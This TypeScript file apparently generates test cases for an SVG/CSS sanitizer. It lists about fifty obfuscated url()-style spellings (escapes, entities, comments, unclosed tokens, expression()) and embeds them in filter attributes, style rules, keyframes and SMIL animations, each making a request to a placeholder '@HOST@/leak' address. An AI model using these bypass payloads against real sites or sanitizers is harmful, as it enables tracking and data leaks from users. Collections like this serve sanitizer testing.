import { type Attack, attacksOf, LEAK, sheet, square, svg } from "./attack.ts";

/** Ways to write a function that names something outside. */
const SPELLINGS: Record<string, string> = {
  "in double quotes": `url(&quot;${LEAK}&quot;)`,
  "in single quotes": `url('${LEAK}')`,
  "in upper case": `URL(${LEAK})`,
  "with spaces": `url(  ${LEAK}  )`,
  "with newlines": `url(\n'${LEAK}'\n)`,
  "with an escaped letter": String.raw`\75rl(${LEAK})`,
  "with an escaped letter and a space": String.raw`\75 rl(${LEAK})`,
  "with an escape of six digits": String.raw`\000075rl(${LEAK})`,
  "with an escaped middle": String.raw`u\72l(${LEAK})`,
  "with an escaped end": String.raw`ur\6c(${LEAK})`,
  "with a letter escaped by itself": String.raw`\u\r\l(${LEAK})`,
  "with an escaped address": String.raw`url(\68ttp://@HOST@/leak?vector=@N@)`,
  "with escapes in a quoted address": String.raw`url('\68\74\74p://@HOST@/leak?vector=@N@')`,
  "with an escaped newline in quotes": `url('ht\\\ntp://@HOST@/leak?vector=@N@')`,
  "with an encoded escape": `&#92;75rl(${LEAK})`,
  "with an encoded bracket": `url&#40;${LEAK}&#41;`,
  "with a named bracket": `url&lpar;${LEAK}&rpar;`,
  "with encoded letters": `&#117;&#114;&#108;(${LEAK})`,
  "after a comment": `/*x*/url(${LEAK})`,
  "after an unclosed comment's end": `*/url(${LEAK})`,
  "with a comment inside": `url(/**/${LEAK})`,
  "after a fragment": `url(#a) url(${LEAK})`,
  "with a fragment after the address": `url(${LEAK}#a)`,
  "with a fragment before the address": `url(#a${LEAK})`,
  "as a fallback": `url(#a) url('${LEAK}') red`,
  "without a scheme": `url(//@HOST@/leak?vector=@N@)`,
  "with backslashes for slashes": String.raw`url('\\\\@HOST@\\leak?vector=@N@')`,
  "with an escaped hash": String.raw`url(\23 a) url(${LEAK})`,
  unclosed: `url(${LEAK}`,
  "unclosed in a quote": `url('${LEAK}`,
  "after a bad string": `'\n url(${LEAK})`,
  "after a bad address": `url(a b) url(${LEAK})`,
  "after a bracket": `) url(${LEAK})`,
  "inside a variable's fallback": `var(--x, url(${LEAK}))`,
  "inside another function": `calc(url(${LEAK}))`,
  "by src": `src('${LEAK}')`,
  "by image": `image('${LEAK}')`,
  "by image-set": `image-set('${LEAK}' 1x)`,
  "by -webkit-image-set": `-webkit-image-set(url(${LEAK}) 1x)`,
  "by cross-fade": `cross-fade(url(${LEAK}), url(${LEAK}), 50%)`,
  "by -webkit-cross-fade": `-webkit-cross-fade(url(${LEAK}), url(${LEAK}), 50%)`,
  "by url-prefix": `url-prefix('${LEAK}')`,
  "by attr": `attr(title url)`,
  "by expression": `expression(top.pwned=@N@) url(${LEAK})`,
  "with NUL": `u\0rl(${LEAK}) url(${LEAK})`,
  "with a byte order mark": `\ufeffurl(${LEAK})`,
  "with a leak in the fragment's name": `url(#a?vector=@N@) url(\n${LEAK})`,
  "with important": `url(${LEAK}) !important`,
  "with data": `url(data:image/svg+xml,%3Csvg%20xmlns=%27http://www.w3.org/2000/svg%27%3E%3Cfilter%20id=%27a%27/%3E%3C/svg%3E#a)`,
};

/** One family: every spelling in one kind of place. */
function spelt(place: string, text: (value: string) => string): Attack[] {
  return attacksOf(`${place} spelt`, Object.keys(SPELLINGS), (name) => text(SPELLINGS[name] ?? ""));
}

export const spellings = [
  ...spelt("filter", (value) => square(`title="${LEAK}" filter="${value}" mask="${value}"`)),
  ...spelt("style", (value) =>
    svg(
      `<g title="${LEAK}" style="background-image:${value};mask-image:${value};filter:${value}"><rect width="50" height="50"/></g>`,
      `style="background:${value}"`,
    ),
  ),
  ...spelt("sheet", (value) =>
    sheet(
      `svg,rect{background:${value};filter:${value};--x:${value};cursor:${value},auto;fill:${value}}rect{mask:${value};clip-path:${value};background-image:${value}}`,
    ),
  ),
  ...spelt("frame", (value) =>
    sheet(
      `@keyframes k{from,to{filter:${value};mask:${value};background:${value};clip-path:${value}}}rect,svg{animation:k 9s infinite}`,
    ),
  ),
  ...spelt("set", (value) =>
    svg(
      `<path d="M0 0h50v50" width="50" height="50"><set attributeName="filter" to="${value}"/><animate attributeName="mask" values="none;${value};${value}" dur="1s" repeatCount="9"/><set to="${value}" attributeName="clip-path"/><animate from="${value}" attributeName="marker-end" by="${value}" dur="1s"/></path>`,
    ),
  ),
];
